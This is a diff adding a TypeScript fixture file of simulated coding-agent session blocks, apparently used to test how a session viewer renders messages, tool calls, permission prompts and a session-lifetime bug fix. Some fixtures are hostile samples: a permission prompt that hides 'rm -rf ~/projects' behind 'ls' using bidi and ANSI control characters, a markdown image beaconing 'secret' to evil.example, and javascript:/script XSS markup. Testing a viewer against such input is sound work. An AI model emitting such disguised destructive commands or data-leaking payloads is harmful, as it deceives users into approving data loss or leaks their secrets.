@@ -1,0 +1,277 @@
+// Made-up blocks, one of every kind and in every state worth looking at.
+
+import type { Block, ToolContent } from "../src/state";
+
+export const NOW = Math.floor(Date.now() / 1000);
+const WORKSPACE = "/home/ada/projects/shop";
+let pos = 0;
+
+type Loose = Record<string, unknown> & { kind: Block["kind"] };
+
+/** A block some seconds before now. */
+export function block(before: number, fields: Loose): Block {
+  pos += 1;
+  return { pos, at: NOW - before, turn: "t1", ...fields } as unknown as Block;
+}
+
+export function tool(before: number, tool_kind: string, title: string, more: Record<string, unknown> = {}): Block {
+  return block(before, {
+    kind: "tool",
+    id: `call-${pos}`,
+    title,
+    tool_kind,
+    status: "completed",
+    locations: [],
+    content: [],
+    ...more,
+  });
+}
+
+export const at = (path: string) => `${WORKSPACE}/${path}`;
+export const said = (text: string): ToolContent => ({ type: "content", content: { type: "text", text } });
+
+const OLD_AUTH = `import time
+from dataclasses import dataclass
+
+from shop.clock import Clock
+from shop.errors import SessionExpired
+
+
+@dataclass
+class Session:
+    user: str
+    expires_at: float
+
+    def is_valid(self) -> bool:
+        return self.expires_at > time.time()
+
+
+class Sessions:
+    """Who is signed in."""
+
+    def __init__(self, lifetime: float = 3600) -> None:
+        self._lifetime = lifetime
+        self._open: dict[str, Session] = {}
+
+    def renew(self, token: str) -> Session:
+        session = self._open[token]
+        if not session.is_valid():
+            raise SessionExpired(token)
+        session.expires_at = time.time() + 3600
+        return session
+`;
+const NEW_AUTH = OLD_AUTH.replace("import time\n", "")
+  .replace("    def is_valid(self) -> bool:\n        return self.expires_at > time.time()", "    def is_valid(self, now: float) -> bool:\n        return self.expires_at > now")
+  .replace("lifetime: float = 3600) -> None:", "clock: Clock, lifetime: float = 3600) -> None:\n        self._clock = clock")
+  .replace("if not session.is_valid():", "if not session.is_valid(self._clock.now()):")
+  .replace("session.expires_at = time.time() + 3600", "session.expires_at = self._clock.now() + self._lifetime");
+
+export const authDiff: ToolContent = { type: "diff", path: at("shop/auth/sessions.py"), oldText: OLD_AUTH, newText: NEW_AUTH };
+export const newFile: ToolContent = {
+  type: "diff",
+  path: at("tests/test_sessions.py"),
+  oldText: null,
+  newText: `from shop.auth.sessions import Sessions
+from shop.clock import FixedClock
+
+
+def test_a_renewed_session_lives_for_its_own_lifetime() -> None:
+    clock = FixedClock(1000)
+    sessions = Sessions(clock, lifetime=60)
+    token = sessions.begin("ada")
+    clock.advance(59)
+    assert sessions.renew(token).expires_at == 1119
+`,
+};
+
+const TEST_OUTPUT = `\u001b[1m============================= test session starts ==============================\u001b[0m
+collected 42 items
+
+tests/test_cart.py \u001b[32m..........\u001b[0m\u001b[32m                                            [ 23%]\u001b[0m
+tests/test_sessions.py \u001b[32m....\u001b[0m\u001b[31mF\u001b[0m\u001b[32m...\u001b[0m\u001b[31m                                        [ 42%]\u001b[0m
+
+=================================== FAILURES ===================================
+\u001b[31m\u001b[1m__________ test_an_expired_session_cannot_be_renewed ___________\u001b[0m
+
+    \u001b[94mdef\u001b[39;49;00m \u001b[92mtest_an_expired_session_cannot_be_renewed\u001b[39;49;00m():
+>       sessions.renew(token)
+\u001b[1m\u001b[31mE       KeyError: 'tok-1'\u001b[0m
+
+\u001b[31m==================== \u001b[31m\u001b[1m1 failed\u001b[0m, \u001b[32m41 passed\u001b[0m\u001b[31m in 1.84s\u001b[0m\u001b[31m =====================\u001b[0m
+`;
+
+const ANSWER = `I found it. \`Sessions.renew\` always adds **3600 seconds**, whatever lifetime the shop was configured with, and it reads the
+wall clock directly, which is why the test could not see it.
+
+What I changed:
+
+1. \`Sessions\` takes a \`Clock\`, so time can be given in tests.
+2. \`renew\` adds the configured lifetime.
+3. There is a test for both.
+
+\`\`\`python
+def renew(self, token: str) -> Session:
+    session = self._open[token]
+    if not session.is_valid(self._clock.now()):
+        raise SessionExpired(token)
+    session.expires_at = self._clock.now() + self._lifetime  # was: + 3600
+    return session
+\`\`\`
+
+| place | before | after | seconds |
+|---|---|:-:|--:|
+| \`begin\` | wall clock | clock | 3600 |
+| \`renew\` | wall clock + constant | clock + lifetime | as configured |
+
+See [the notes on sliding expiration](https://cheatsheetseries.owasp.org/cheatsheets/Session_Management_Cheat_Sheet.html) for
+why a renewed session should not live longer than a new one. The line itself is [sessions.py:27](shop/auth/sessions.py:27).
+`;
+
+export const PLAN = [
+  { content: "Find where sessions are renewed", priority: "medium", status: "completed" },
+  { content: "Give sessions a clock and use the configured lifetime", priority: "medium", status: "completed" },
+  { content: "Write a test that fails without the change", priority: "high", status: "in_progress" },
+  { content: "Run the whole suite", priority: "medium", status: "pending" },
+];
+
+/** A turn that went well. */
+export function goodTurn(): Block[] {
+  return [
+    block(190, { kind: "message", id: "m1", role: "user", text: "Sessions of signed-in users live too long after a renewal. Find out why, fix it, and add a test.", turn: "t0" }),
+    block(188, { kind: "thought", message_id: "th1", turn: "t0", text: "The user says sessions live too long after renewal. I should look at `Sessions.renew` first, then at where the lifetime is configured." }),
+    tool(176, "search", "Search for 'expires_at'", { turn: "t0", input: { pattern: "expires_at" }, content: [said("shop/auth/sessions.py:10\nshop/auth/sessions.py:27\n")] }),
+    tool(175, "read", "Read sessions.py", { turn: "t0", locations: [{ path: at("shop/auth/sessions.py"), line: 1 }], content: [said("```\n" + OLD_AUTH + "```")] }),
+    tool(172, "read", "Read clock.py", { turn: "t0", locations: [{ path: at("shop/clock.py") }] }),
+    tool(171, "read", "Read settings.py", { turn: "t0", locations: [{ path: at("shop/settings.py") }] }),
+    tool(168, "execute", "git log --oneline -5 -- shop/auth", { turn: "t0", input: { command: "git log --oneline -5 -- shop/auth", cwd: WORKSPACE }, content: [said("8f1c2aa Renew sessions on use\n02bd9e1 Add sessions\n")] }),
+    tool(150, "edit", "Edit sessions.py", { turn: "t0", locations: [{ path: at("shop/auth/sessions.py") }], content: [authDiff] }),
+    tool(140, "edit", "Write test_sessions.py", { turn: "t0", locations: [{ path: at("tests/test_sessions.py") }], content: [newFile] }),
+    block(133, {
+      kind: "question",
+      id: "q0",
+      turn: "t0",
+      type: "permission",
+      title: "python -m pytest -q",
+      detail: { tool: "x", tool_kind: "execute", input: { command: "python -m pytest -q" } },
+      options: [{ id: "once", label: "Yes", kind: "allow_once" }],
+      agent: "claude",
+      answer: { question_id: "q0", outcome: "allow_once", by: "person", option_id: "once", where: "Phone", at: NOW - 130 },
+    }),
+    tool(129, "execute", "python -m pytest -q", { turn: "t0", status: "failed", input: { command: "python -m pytest -q", cwd: WORKSPACE }, content: [said(TEST_OUTPUT)], output: { exitCode: 1, message: "The command ended with status 1." } }),
+    block(120, { kind: "text", message_id: "a1", turn: "t0", text: ANSWER }),
+    block(118, { kind: "turn", turn: "t0", since: NOW - 189, stop_reason: "end_turn" }),
+  ];
+}
+
+/** A turn that runs and waits for an answer. */
+export function runningTurn(): Block[] {
+  return [
+    block(60, { kind: "message", id: "m2", role: "user", text: "Good. Now run the whole suite, and tidy up the imports while you are at it." }),
+    block(58, { kind: "plan", entries: PLAN }),
+    tool(55, "read", "Read pyproject.toml", { locations: [{ path: at("pyproject.toml") }] }),
+    tool(54, "execute", "ruff check --select I .", { input: { command: "ruff check --select I ." }, content: [said("Found 3 errors.\n")] }),
+    block(40, { kind: "text", message_id: "a2", text: "Three files have imports out of order. I will let `ruff` sort them, then run the suite." }),
+    tool(12, "execute", "ruff check --select I --fix . && python -m pytest -q", { id: "call-wait", status: "pending", input: { command: "ruff check --select I --fix . && python -m pytest -q", cwd: WORKSPACE } }),
+    question(),
+  ];
+}
+
+export function question(more: Record<string, unknown> = {}): Block {
+  return block(10, {
+    kind: "question",
+    id: `q-${pos}`,
+    type: "permission",
+    title: "Sort imports and run the tests",
+    detail: {
+      tool: "call-wait",
+      tool_kind: "execute",
+      input: { command: "ruff check --select I --fix . && python -m pytest -q", cwd: WORKSPACE, description: "Sort imports and run the tests" },
+    },
+    options: [
+      { id: "once", label: "Yes", kind: "allow_once" },
+      { id: "always", label: "Yes, and don't ask again for ruff check commands", kind: "allow_always" },
+      { id: "no", label: "No", kind: "reject_once" },
+    ],
+    agent: "claude",
+    ...more,
+  });
+}
+
+export const editQuestion = () =>
+  question({
+    title: "Edit sessions.py",
+    detail: { tool: "call-e", tool_kind: "edit", input: { file_path: at("shop/auth/sessions.py") }, locations: [{ path: at("shop/auth/sessions.py") }], content: [authDiff] },
+  });
+
+export const sneakyQuestion = () =>
+  question({
+    title: "List files",
+    detail: { tool: "call-s", tool_kind: "read", input: { command: "ls\u202e\u200b; rm -rf ~/projects # \u001b[2K list", cwd: "/home/ada" } },
+  });
+
+export const formQuestion = () =>
+  question({
+    type: "form",
+    title: "How shall the release be made?",
+    options: [],
+    detail: {
+      schema: {
+        type: "object",
+        properties: {
+          version: { type: "string", title: "Version", description: "Like 1.4.0", minLength: 5, pattern: "^\\d+\\.\\d+\\.\\d+$" },
+          channel: { type: "string", title: "Channel", enum: ["stable", "beta", "nightly"], default: "beta" },
+          retries: { type: "integer", title: "Retries", minimum: 0, maximum: 5, default: 2 },
+          notify: { type: "array", title: "Tell", items: { anyOf: [{ const: "mail", title: "by mail" }, { const: "chat", title: "in the chat room" }] } },
+          sign: { type: "boolean", title: "Sign the packages", default: true },
+        },
+        required: ["version", "channel"],
+      },
+    },
+  });
+
+export const urlQuestion = () =>
+  question({
+    type: "url",
+    title: "Please sign in to the issue tracker so that I can read the ticket.",
+    options: [],
+    detail: { url: "https://tracker.example.com/oauth/authorize?client=shop&state=8f1c2aa", host: "tracker.example.com" },
+  });
+
+/** Everything that may go wrong or look odd. */
+export function oddTurn(): Block[] {
+  const huge = Array.from({ length: 900 }, (_, n) => `line ${n + 1} of a long file`).join("\n");
+  return [
+    block(900, { kind: "message", id: "m3", role: "user", text: "A message\nwith several lines,\n\n    and an indented one, and averyveryverylongwordthatdoesnotfitanywhereatallbecauseitjustgoesonandonandonandon" }),
+    block(890, { kind: "notice", level: "info", code: "recovered", text: "The server was restarted; the agent went on working meanwhile." }),
+    block(889, { kind: "notice", level: "warning", code: "session-not-restored", text: "The previous Copilot session could not be restored. A new session has been started. Your conversation history in VoxPilot is intact." }),
+    block(888, { kind: "notice", level: "error", code: "agent-stderr", text: "The agent wrote to its error output.", detail: "Error: ENOENT: no such file or directory, open '/home/ada/.config/agent.json'\n    at Object.openSync (node:fs:601:3)" }),
+    tool(880, "delete", "Delete old.py", { locations: [{ path: at("old.py") }] }),
+    tool(879, "move", "Move a.py to b.py", { locations: [{ path: at("a.py") }, { path: at("b.py") }] }),
+    tool(870, "fetch", "Fetch https://docs.python.org/3/library/time.html", { content: [said("# time — Time access and conversions\n\nThis module provides various *time-related* functions.")] }),
+    tool(869, "think", "Think about the clock", {}),
+    tool(868, "switch_mode", "Switch to plan mode", {}),
+    tool(867, "other", "todo_write", { input: { todos: ["a", "b"] }, output: { ok: true } }),
+    tool(860, "edit", "Write big.txt", { content: [{ type: "diff", path: at("big.txt"), oldText: huge, newText: huge.replaceAll("long", "very long") }] }),
+    tool(850, "execute", "npm install", { status: "cancelled", input: { command: "npm install" } }),
+    tool(840, "execute", "cargo build", { status: "in_progress", input: { command: ["cargo", "build", "--features", "a b"] }, content: [said("   Compiling shop v0.1.0\n")] }),
+    block(830, { kind: "thought", message_id: "t9", text: "Hmm. The build takes long." }),
+    block(820, { kind: "text", message_id: "a3", text: "A remote picture: ![chart](https://evil.example/c.png?q=secret), a [harmless link](https://example.com/a), a\n[javascript link](javascript:alert(1)), raw <b>bold</b> and <script>alert(1)</script> markup.\n\n> A quotation\n> over two lines\n\n- [x] done\n- [ ] open\n\n---\n\n### A heading\n\n```sh\nvoxpilot run --agent claude \"a very long command line that does not fit into the narrow column of a phone\" --json | jq .text\n```\n\n| a | wide | table | that | has | many | columns | and | scrolls |\n|---|---|---|---|---|---|---|---|---|\n| some cell | some cell | some cell | some cell | some cell | some cell | some cell | some cell | some cell |" }),
+    block(810, { kind: "unknown", raw: { sessionUpdate: "future_update", value: { a: 1 } } }),
+    block(805, { kind: "turn", since: NOW - 900, stop_reason: "error", error: { message: "The agent stopped with status 1 before it had answered.", hint: "Send the message again; the agent is started anew.", exit_code: 1, stderr: "Traceback (most recent call last):\n  File \"agent.py\", line 3\nKeyError: 'token'" } }),
+    block(700, { kind: "message", id: "m4", role: "user", text: "Try again." }),
+    block(690, { kind: "turn", since: NOW - 700, stop_reason: "cancelled" }),
+  ];
+}
+
+/** The assistant hands work to an agent. */
+export function delegatedTurn(): Block[] {
+  const call = { tool_call_id: "d1" };
+  return [
+    block(300, { kind: "message", id: "m5", role: "user", text: "Fix the auth bug with Copilot." }),
+    tool(290, "other", "copilot_agent", { id: "d1", name: "copilot_agent", status: "in_progress", input: { prompt: "Fix the auth bug", session_name: "auth-bug-fix", agent: "copilot" } }),
+    block(288, { kind: "text", message_id: "d-a", text: "Looking at the sessions module first.\nThe lifetime is a constant.", ...call }),
+    tool(287, "read", "Read sessions.py", { locations: [{ path: at("shop/auth/sessions.py") }], ...call }),
+    tool(286, "edit", "Edit sessions.py", { content: [authDiff], ...call }),
+    block(280, { kind: "plan", entries: PLAN.slice(0, 3), ...call }),
+  ];
+}
